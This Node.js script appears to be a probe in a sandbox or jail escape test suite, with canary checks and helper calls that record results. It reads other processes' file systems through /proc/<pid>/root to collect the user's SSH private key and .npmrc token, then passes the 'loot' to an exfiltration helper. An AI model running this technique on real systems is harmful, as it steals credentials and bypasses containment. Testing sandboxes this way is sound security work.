'use strict';
// /proc/<pid>/root of a process outside the jail is that process's view of the file
// system: read the user's key through it.
const fs = require('fs');
const path = require('path');
const lib = require('./lib.js');

lib.run(async () => {
  let loot = '';
  for (const pid of fs.readdirSync('/proc').filter((e) => /^\d+$/.test(e) && Number(e) !== process.pid)) {
    for (const rel of ['.ssh/id_ed25519', '.npmrc']) {
      try {
        loot += fs.readFileSync(`/proc/${pid}/root${path.join(lib.home(), rel)}`, 'utf8') + '\n';
        lib.did('read-through-root');
      } catch {
        /* not that one */
      }
    }
    if (lib.canaries(loot).length > 0) break;
  }
  if (lib.found(loot).length > 0) await lib.exfil(loot);
});
